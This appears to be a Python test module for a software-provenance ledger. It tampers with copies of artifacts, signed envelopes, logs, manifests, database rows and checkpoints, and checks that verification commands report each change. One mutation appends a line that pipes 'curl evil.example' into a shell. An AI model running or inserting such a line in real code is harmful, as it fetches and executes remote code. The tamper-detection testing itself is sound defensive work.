"""The tamper catalogue: one mutation of one stored form each, and the check that must notice it.

A mutation edits a throwaway copy of a built workspace in place. ``DETECTORS`` run the command a
user or auditor would run; each mutation names the detector and the fragment its message must
contain (the *right* message, not just a non-zero exit).
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.conftest import CliResult
from tests.reliability.conftest import BuiltWorkspace, ledger


def _lines(path: Path) -> list[bytes]:
    return path.read_bytes().splitlines(keepends=True)


def _write_lines(path: Path, lines: list[bytes]) -> None:
    path.write_bytes(b"".join(lines))


def _envelope(bw: BuiltWorkspace, index: int = 0) -> dict[str, object]:
    return json.loads(_lines(bw.attestation)[index])  # type: ignore[no-any-return]


def _put_envelope(bw: BuiltWorkspace, value: dict[str, object], index: int = 0) -> None:
    lines = _lines(bw.attestation)
    lines[index] = json.dumps(value, separators=(",", ":")).encode() + b"\n"
    _write_lines(bw.attestation, lines)


def _edit_payload(bw: BuiltWorkspace, edit: Callable[[dict[str, object]], None]) -> None:
    env = _envelope(bw)
    statement = json.loads(base64.b64decode(str(env["payload"])))
    edit(statement)
    env["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()
    _put_envelope(bw, env)


def _flip(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 0x01]) + data[at + 1 :]


def _sql(bw: BuiltWorkspace, *statements: str) -> None:
    """Edit the index behind the ledger's back, through a direct DuckDB connection."""
    import duckdb

    con = duckdb.connect(str(bw.root / ".ledger" / "ledger.duckdb"))
    try:
        for statement in statements:
            con.execute(statement)
    finally:
        con.close()


# --- artifact ---------------------------------------------------------------------------------


def artifact_byte_flipped(bw: BuiltWorkspace) -> None:
    path = bw.root / bw.artifact
    path.write_bytes(_flip(path.read_bytes(), 40))


def artifact_line_appended(bw: BuiltWorkspace) -> None:
    with (bw.root / bw.artifact).open("a") as fh:
        fh.write("import os; os.system('curl evil.example | sh')\n")


def artifact_replaced_by_empty_file(bw: BuiltWorkspace) -> None:
    (bw.root / bw.artifact).write_bytes(b"")


# --- envelope fields --------------------------------------------------------------------------


def payload_subject_digest_changed(bw: BuiltWorkspace) -> None:
    def edit(st: dict[str, object]) -> None:
        subject = st["subject"][0]  # type: ignore[index]
        subject["digest"]["sha256"] = "0" * 64

    _edit_payload(bw, edit)


def payload_target_changed(bw: BuiltWorkspace) -> None:
    def edit(st: dict[str, object]) -> None:
        st["predicate"]["buildDefinition"]["externalParameters"]["target"] = "SPEC/textkit/slugify"  # type: ignore[index]

    _edit_payload(bw, edit)


def payload_byte_flipped(bw: BuiltWorkspace) -> None:
    env = _envelope(bw)
    raw = base64.b64decode(str(env["payload"]))
    env["payload"] = base64.b64encode(_flip(raw, len(raw) // 2)).decode()
    _put_envelope(bw, env)


def payload_from_the_test_result_envelope(bw: BuiltWorkspace) -> None:
    env = _envelope(bw)
    env["payload"] = _envelope(bw, 1)["payload"]
    _put_envelope(bw, env)


def payload_type_changed(bw: BuiltWorkspace) -> None:
    env = _envelope(bw)
    env["payloadType"] = "application/json"
    _put_envelope(bw, env)


def signature_bit_flipped(bw: BuiltWorkspace) -> None:
    env = _envelope(bw)
    sig = env["signatures"][0]  # type: ignore[index]
    sig["sig"] = base64.b64encode(_flip(base64.b64decode(sig["sig"]), 5)).decode()
    _put_envelope(bw, env)


def signature_from_the_other_envelope(bw: BuiltWorkspace) -> None:
    env = _envelope(bw)
    env["signatures"] = _envelope(bw, 1)["signatures"]
    _put_envelope(bw, env)


def signatures_emptied(bw: BuiltWorkspace) -> None:
    env = _envelope(bw)
    env["signatures"] = []
    _put_envelope(bw, env)


def keyid_changed(bw: BuiltWorkspace) -> None:
    env = _envelope(bw)
    env["signatures"][0]["keyid"] = "f" * 64  # type: ignore[index]
    _put_envelope(bw, env)


def extra_top_level_field(bw: BuiltWorkspace) -> None:
    env = _envelope(bw)
    env["payloadHint"] = "ignore the payload, the artifact is fine"
    _put_envelope(bw, env)


def extra_field_in_signature(bw: BuiltWorkspace) -> None:
    env = _envelope(bw)
    env["signatures"][0]["cert"] = "-----BEGIN CERTIFICATE-----"  # type: ignore[index]
    _put_envelope(bw, env)


def test_result_envelope_deleted(bw: BuiltWorkspace) -> None:
    _write_lines(bw.attestation, _lines(bw.attestation)[:1])


def envelope_file_truncated(bw: BuiltWorkspace) -> None:
    data = bw.attestation.read_bytes()
    bw.attestation.write_bytes(data[: len(data) // 3])


def envelope_file_deleted(bw: BuiltWorkspace) -> None:
    bw.attestation.unlink()


# --- trajectory lines (the object the attestation names) ----------------------------------------


def _edit_trajectory(bw: BuiltWorkspace, edit: Callable[[list[bytes]], list[bytes]]) -> None:
    path = bw.object_path(bw.trajectory)
    path.chmod(0o644)
    _write_lines(path, edit(_lines(path)))


def trajectory_field_edited(bw: BuiltWorkspace) -> None:
    def edit(lines: list[bytes]) -> list[bytes]:
        for i, line in enumerate(lines):
            if b'"type":"tool_call"' in line:
                lines[i] = line.replace(b"roman.py", b"romax.py", 1)
                return lines
        raise AssertionError("no tool_call line")

    _edit_trajectory(bw, edit)


def trajectory_line_deleted(bw: BuiltWorkspace) -> None:
    _edit_trajectory(bw, lambda lines: lines[:3] + lines[4:])


def trajectory_lines_swapped(bw: BuiltWorkspace) -> None:
    _edit_trajectory(bw, lambda lines: [*lines[:3], lines[4], lines[3], *lines[5:]])


def trajectory_event_appended_with_a_valid_chain_link(bw: BuiltWorkspace) -> None:
    from ledger.trajectory.events import Event

    def edit(lines: list[bytes]) -> list[bytes]:
        last = json.loads(lines[-1])
        prev = Event(last["seq"], last["time"], last["type"], last["data"], last["prev"]).digest
        extra = Event(last["seq"] + 1, last["time"], "tool_call", {"name": "run_command"}, prev)
        return [*lines, extra.canonical() + b"\n"]

    _edit_trajectory(bw, edit)


def trajectory_last_event_dropped(bw: BuiltWorkspace) -> None:
    _edit_trajectory(bw, lambda lines: lines[:-1])


def trajectory_truncated_mid_line(bw: BuiltWorkspace) -> None:
    _edit_trajectory(bw, lambda lines: [*lines[:-1], lines[-1][:20]])


def trajectory_line_made_non_canonical(bw: BuiltWorkspace) -> None:
    def edit(lines: list[bytes]) -> list[bytes]:
        lines[2] = json.dumps(json.loads(lines[2]), indent=1).replace("\n", "").encode() + b"\n"
        return lines

    _edit_trajectory(bw, edit)


# --- objects --------------------------------------------------------------------------------


def trajectory_object_deleted(bw: BuiltWorkspace) -> None:
    bw.object_path(bw.trajectory).unlink()


def trajectory_object_byte_flipped(bw: BuiltWorkspace) -> None:
    _edit_trajectory(bw, lambda lines: [_flip(lines[0], 10), *lines[1:]])


def exec_log_object_edited(bw: BuiltWorkspace) -> None:
    path = bw.object_path(bw.exec_log)
    path.chmod(0o644)
    path.write_bytes(path.read_bytes().replace(b'"exit_code":0', b'"exit_code":1', 1))


def exec_log_object_deleted(bw: BuiltWorkspace) -> None:
    bw.object_path(bw.exec_log).unlink()


# --- code-from-spec/.manifest ---------------------------------------------------------------


def _edit_manifest(bw: BuiltWorkspace, field: str, value: str) -> None:
    path = bw.root / "code-from-spec" / ".manifest"
    out = []
    for line in path.read_text().splitlines():
        if line.startswith("ARTIFACT/textkit/roman;"):
            parts = [f"{field}:{value}" if p.startswith(f"{field}:") else p for p in line.split(";")]
            line = ";".join(parts)
        out.append(line)
    path.write_text("\n".join(out) + "\n")


def manifest_checksum_changed(bw: BuiltWorkspace) -> None:
    _edit_manifest(bw, "checksum", "A" * 27)


def manifest_chain_changed(bw: BuiltWorkspace) -> None:
    _edit_manifest(bw, "chain", "B" * 27)


def manifest_entry_deleted(bw: BuiltWorkspace) -> None:
    path = bw.root / "code-from-spec" / ".manifest"
    kept = [ln for ln in path.read_text().splitlines() if not ln.startswith("ARTIFACT/textkit/roman;")]
    path.write_text("\n".join(kept) + "\n")


def manifest_line_garbled(bw: BuiltWorkspace) -> None:
    _edit_manifest(bw, "checksum", "not a hash!")


# --- DuckDB rows ------------------------------------------------------------------------------


def db_build_model_updated(bw: BuiltWorkspace) -> None:
    _sql(bw, "UPDATE builds SET model_id = 'claude-opus-4-1-20250805'")


def db_subject_digest_updated(bw: BuiltWorkspace) -> None:
    _sql(bw, f"UPDATE subjects SET sha256 = '{'0' * 64}'")


def db_test_result_updated(bw: BuiltWorkspace) -> None:
    _sql(bw, "UPDATE tests SET result = 'FAILED', failed = 1")


def db_envelope_raw_updated(bw: BuiltWorkspace) -> None:
    _sql(bw, "UPDATE envelopes SET raw = replace(raw, 'payloadType', 'payloadtype') WHERE seq = 0")


def db_envelope_row_inserted(bw: BuiltWorkspace) -> None:
    _sql(bw, "INSERT INTO envelopes SELECT * REPLACE (2 AS seq) FROM envelopes WHERE seq = 0")


def db_envelope_and_log_rows_deleted(bw: BuiltWorkspace) -> None:
    _sql(bw, "DELETE FROM envelopes WHERE seq = 1", "DELETE FROM log WHERE leaf_index = 1")


def db_event_row_deleted(bw: BuiltWorkspace) -> None:
    _sql(bw, "DELETE FROM events WHERE seq = (SELECT max(seq) FROM events)")


def db_build_row_inserted(bw: BuiltWorkspace) -> None:
    _sql(bw, "INSERT INTO builds SELECT * REPLACE ('forged-build' AS build_id) FROM builds")


def db_log_leaf_updated(bw: BuiltWorkspace) -> None:
    _sql(bw, f"UPDATE log SET leaf_hash = '{'1' * 64}' WHERE leaf_index = 0")


# --- checkpoints ------------------------------------------------------------------------------


def _note(bw: BuiltWorkspace) -> Path:
    (note,) = (bw.root / ".ledger" / "log" / "checkpoints").glob("*.note")
    return note


def checkpoint_tree_size_edited(bw: BuiltWorkspace) -> None:
    note = _note(bw)
    lines = note.read_text().split("\n")
    lines[1] = "1"
    note.write_text("\n".join(lines))


def checkpoint_root_hash_edited(bw: BuiltWorkspace) -> None:
    note = _note(bw)
    lines = note.read_text().split("\n")
    lines[2] = base64.b64encode(b"\x00" * 32).decode()
    note.write_text("\n".join(lines))


def checkpoint_signature_edited(bw: BuiltWorkspace) -> None:
    note = _note(bw)
    text = note.read_text()
    head, sig = text.rstrip("\n").rsplit(" ", 1)
    raw = base64.b64decode(sig)
    note.write_text(f"{head} {base64.b64encode(_flip(raw, len(raw) - 3)).decode()}\n")


def checkpoint_origin_edited(bw: BuiltWorkspace) -> None:
    note = _note(bw)
    note.write_text(note.read_text().replace("spec-ledger.local/", "spec-ledger.example/", 1))


def checkpoint_note_deleted(bw: BuiltWorkspace) -> None:
    _note(bw).unlink()


# --- detectors --------------------------------------------------------------------------------


def verify(bw: BuiltWorkspace) -> CliResult:
    return ledger("verify", "-w", str(bw.root), str(bw.root / bw.artifact))


def audit(bw: BuiltWorkspace) -> CliResult:
    return ledger("audit", "-w", str(bw.root))


def trajectory_verify(bw: BuiltWorkspace) -> CliResult:
    path = bw.object_path(bw.trajectory)
    return ledger("trajectory", "verify", str(path), "--head", bw.trajectory_head)


def spec_status(bw: BuiltWorkspace) -> CliResult:
    """The artifact's own row of ``spec status --json`` (the other demo artifacts were never built)."""
    result = ledger("spec", "status", "--json", "-w", str(bw.root))
    if result.code != 0:
        return result
    (row,) = [r for r in json.loads(result.stdout) if r["path"] == bw.artifact]
    code = 0 if row["status"] == "up-to-date" else 1
    return CliResult(code, result.stdout, f"{row['artifact']}: {row['status']} {row.get('detail') or ''}")


DETECTORS: dict[str, Callable[[BuiltWorkspace], CliResult]] = {
    "verify": verify,
    "audit": audit,
    "trajectory verify": trajectory_verify,
    "spec status": spec_status,
}


@dataclass(frozen=True)
class Mutation:
    form: str
    mutate: Callable[[BuiltWorkspace], None]
    detector: str
    expect: str  # a fragment of the detector's output naming what is wrong

    @property
    def name(self) -> str:
        return self.mutate.__name__


def _m(form: str, mutate: Callable[[BuiltWorkspace], None], detector: str, expect: str) -> Mutation:
    return Mutation(form, mutate, detector, expect)


_UNSIGNED = "no provenance from a trusted signer names sha256:"
_SIG = "does not verify (payload, payloadType or signature altered)"
_ROW = "row not derived from any verified envelope (inserted or altered)"
_GONE = "row derived from a verified envelope is missing (deleted or altered)"
_NOTE = "checkpoint signature does not verify (note altered?)"

MUTATIONS: tuple[Mutation, ...] = (
    _m("artifact", artifact_byte_flipped, "verify", _UNSIGNED),
    _m("artifact", artifact_line_appended, "verify", _UNSIGNED),
    _m("artifact", artifact_replaced_by_empty_file, "verify", _UNSIGNED + "e3b0c44298fc"),
    _m("artifact", artifact_byte_flipped, "spec status", "modified"),
    _m("envelope.payload", payload_subject_digest_changed, "verify", _SIG),
    _m("envelope.payload", payload_target_changed, "verify", _SIG),
    _m("envelope.payload", payload_byte_flipped, "verify", _SIG),
    _m("envelope.payload", payload_from_the_test_result_envelope, "verify", _UNSIGNED),
    _m("envelope.payloadType", payload_type_changed, "verify", _SIG),
    _m("envelope.signatures", signature_bit_flipped, "verify", _SIG),
    _m("envelope.signatures", signature_from_the_other_envelope, "verify", _SIG),
    _m(
        "envelope.signatures",
        signatures_emptied,
        "verify",
        "field 'signatures' is missing or not a non-empty list",
    ),
    _m(
        "envelope.keyid",
        keyid_changed,
        "verify",
        "signed by key " + "f" * 64 + ", which [trust] does not list",
    ),
    _m("envelope.extra", extra_top_level_field, "verify", "unknown field"),
    _m("envelope.extra", extra_field_in_signature, "verify", "unknown field"),
    _m("envelope file", test_result_envelope_deleted, "verify", "TESTED: no signed test result for build"),
    _m("envelope file", envelope_file_truncated, "verify", "not a JSON envelope (file truncated?)"),
    _m("envelope file", envelope_file_deleted, "verify", _UNSIGNED),
    _m(
        "trajectory line",
        trajectory_field_edited,
        "trajectory verify",
        "event 3 does not hash to the prev recorded in event 4",
    ),
    _m(
        "trajectory line",
        trajectory_line_deleted,
        "trajectory verify",
        "seq is 4, expected 3 (an event was deleted",
    ),
    _m("trajectory line", trajectory_lines_swapped, "trajectory verify", "seq is 4, expected 3"),
    _m(
        "trajectory line",
        trajectory_event_appended_with_a_valid_chain_link,
        "trajectory verify",
        "appended after the expected head",
    ),
    _m(
        "trajectory line",
        trajectory_last_event_dropped,
        "trajectory verify",
        "differs from the expected head",
    ),
    _m(
        "trajectory line",
        trajectory_truncated_mid_line,
        "trajectory verify",
        "does not end with a newline (file truncated",
    ),
    _m(
        "trajectory line",
        trajectory_line_made_non_canonical,
        "trajectory verify",
        "event 2: line 3: not in RFC 8785 canonical form",
    ),
    _m("object (trajectory)", trajectory_field_edited, "audit", "trajectories: " + _ROW),
    _m(
        "object (trajectory)",
        trajectory_event_appended_with_a_valid_chain_link,
        "audit",
        "trajectories: " + _ROW,
    ),
    _m("object (trajectory)", trajectory_object_byte_flipped, "audit", "trajectories: " + _ROW),
    _m("object (trajectory)", trajectory_object_deleted, "audit", "trajectories: " + _ROW),
    _m("object (trajectory)", trajectory_object_deleted, "trajectory verify", "cannot read trajectory"),
    _m("object (exec log)", exec_log_object_edited, "audit", "exec"),
    _m("object (exec log)", exec_log_object_deleted, "audit", "exec"),
    _m("manifest", manifest_checksum_changed, "spec status", "modified"),
    _m("manifest", manifest_chain_changed, "spec status", "stale"),
    _m("manifest", manifest_entry_deleted, "spec status", "missing"),
    _m(
        "manifest", manifest_line_garbled, "spec status", "code-from-spec/.manifest:2: checksum 'not a hash!'"
    ),
    _m("duckdb", db_build_model_updated, "audit", "builds: " + _ROW),
    _m("duckdb", db_subject_digest_updated, "audit", "subjects: " + _ROW),
    _m("duckdb", db_test_result_updated, "audit", "tests: " + _ROW),
    _m("duckdb", db_envelope_raw_updated, "audit", "row seq=0"),
    _m("duckdb", db_envelope_row_inserted, "audit", "log: " + _GONE),
    _m(
        "duckdb",
        db_envelope_and_log_rows_deleted,
        "audit",
        "covers 2 envelopes but the log has 1 (history truncated)",
    ),
    _m("duckdb", db_event_row_deleted, "audit", "events: " + _GONE),
    _m("duckdb", db_build_row_inserted, "audit", "builds: " + _ROW),
    _m("duckdb", db_log_leaf_updated, "audit", "log: " + _ROW),
    _m("checkpoint", checkpoint_tree_size_edited, "audit", _NOTE),
    _m("checkpoint", checkpoint_root_hash_edited, "audit", _NOTE),
    _m("checkpoint", checkpoint_signature_edited, "audit", _NOTE),
    _m("checkpoint", checkpoint_origin_edited, "audit", _NOTE),
    _m("checkpoint", checkpoint_note_deleted, "audit", "checkpoint"),
)

# Mutations the product does not detect today. Each is a real finding, reported to the lead; the
# matrix test for it is xfail(strict=True) so that fixing the product turns it green loudly.
KNOWN_GAPS: dict[str, str] = {}
